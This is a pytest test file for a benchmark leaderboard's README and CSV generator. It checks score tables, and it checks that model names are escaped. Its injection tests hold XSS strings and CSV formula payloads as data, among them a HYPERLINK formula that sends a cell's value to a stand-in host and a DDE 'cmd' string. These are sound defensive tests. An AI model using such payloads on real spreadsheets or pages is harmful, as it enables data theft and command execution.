import csv
import io
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from support.runs import NAMES, report, write

from mmeb.leaderboard.board import Board, load_board
from mmeb.leaderboard.tables import readme, table_csv
from mmeb.results import published
from mmeb.results.averages import averages
from mmeb.tasks import GROUPS


@pytest.fixture
def board(tmp_path: Path) -> Board:
    published.write_all(tmp_path)
    write(tmp_path / "part.json", report(name="part", tasks=NAMES[:30]))
    return load_board(tmp_path)


def rows(text: str, title: str) -> dict[str, list[str]]:
    """The cells of a section's table by the model's name."""
    section = text.split(f"## {title}\n")[1].split("\n## ")[0]
    lines = [[cell.strip() for cell in line.strip("|").split(" | ")] for line in section.splitlines() if "|" in line]
    place = next(number for number, cell in enumerate(lines[0]) if cell == "model")
    return {line[place].split(" [")[0]: line for line in lines[2:]}


def test_the_best_of_each_column_is_bold(board: Board) -> None:
    table = rows(readme(board), "Averages")
    assert table["Qwen3-VL-Embedding-8B (MMEB leaderboard file)"][4:] == [
        *("**80.1**", "**81.9**", "**78.0**"),
        *("**74.2**", "**81.1**", "**80.2**", "**92.3**"),
    ]
    assert table["CLIP"][4:] == ["37.8", "37.1", "38.7", "42.8", "9.1", "53.0", "51.8"]


def test_an_incomplete_group_shows_how_many_tasks_there_are(board: Board) -> None:
    cells = rows(readme(board), "Averages")["part"]
    assert cells[0] == ""
    assert [cells[column] for column in (4, 5, 6, 9, 10)] == ["30/36", "19/20", "11/16", "10/12", "0/4"]


def test_stated_averages_stand_apart_in_italics(board: Board) -> None:
    text = readme(board)
    assert rows(text, "Only averages published")["LLaVE-7B"][3] == "*70.3*"
    assert "LLaVE-7B" not in rows(text, "Averages")


def test_all_36_tasks_have_a_column(board: Board) -> None:
    text = readme(board)
    for name in NAMES:
        assert f" {name} (" in text


def test_contradictions_and_sources_are_listed(board: Board) -> None:
    text = readme(board)
    assert "- SigLIP: stated retrieval average 31.6, but its 12 tasks average 44.09" in text
    assert "SigLIP [⚠](#what-does-not-add-up)" in text
    assert "VLM2Vec paper Table 6" in text


def test_a_demo_says_so(tmp_path: Path) -> None:
    write(tmp_path / "x.json", report(data={"kind": "demo"}, n=20))
    text = readme(load_board(tmp_path, demo=True))
    assert text.startswith("# Leaderboard of the demo")
    assert "Demo results, on generated data" in text


@pytest.mark.parametrize(
    "name",
    [
        "<script>alert(1)</script>",
        "a | b",
        "**bold** _it_ ~~x~~",
        "[link](javascript:alert(1))",
        "`code`",
        "https://evil.example",
        "a\\b",
        '"quotes" & more',
        "😀 👩‍💻",
        "نموذج",
        "# heading",
        "- item",
        "$x$",
    ],
)
def test_a_name_stays_a_name(tmp_path: Path, name: str) -> None:
    content = report(name=name)
    content["metrics"]["image"]["CIRR"]["precision@1"] = 0.999
    write(tmp_path / "x.json", content)
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(readme(load_board(tmp_path)))
    escaped = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    assert html.count(f">{escaped} <a ") == 5  # in the averages and in the tables of the meta-tasks
    assert f"<li>{escaped}: CIRR: precision@1" in html
    assert "<script" not in html
    assert "<code>code" not in html


def test_the_csv_has_exactly_the_columns_and_every_mean_is_of_the_tasks_beside_it(tmp_path: Path) -> None:
    published.write_all(tmp_path)
    write(tmp_path / "part.json", report(name='odd, "name"\t', tasks=NAMES[:30]))
    read = list(csv.DictReader(io.StringIO(table_csv(load_board(tmp_path)))))
    assert list(read[0]) == ["model", *GROUPS, *NAMES]
    assert len(read) == 34
    for row in read:
        scores = {name: float(row[name]) for name in NAMES if row[name]}
        for group, mean in averages(scores).items():
            assert row[group] == "" if mean is None else float(row[group]) == pytest.approx(mean, abs=1e-9)
    assert read[0]["overall"] == "80.12222222222222"
    assert read[13]["model"] == 'odd, "name"'


@pytest.mark.parametrize("name", ['=HYPERLINK("http://a.b/?"&B2,"CLIP")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1"])
def test_no_name_starts_a_formula(tmp_path: Path, name: str) -> None:
    write(tmp_path / "x.json", report(name=name))
    assert next(csv.DictReader(io.StringIO(table_csv(load_board(tmp_path)))))["model"] == f"'{name}"


def test_a_link_stays_in_its_cell(tmp_path: Path) -> None:
    url = "https://example.org/a|b|99.9`c?d=e#f"
    write(tmp_path / "x.json", report(metadata={"url": url}))
    assert "](<https://example.org/a%7Cb%7C99.9%60c?d=e#f>)" in readme(load_board(tmp_path))
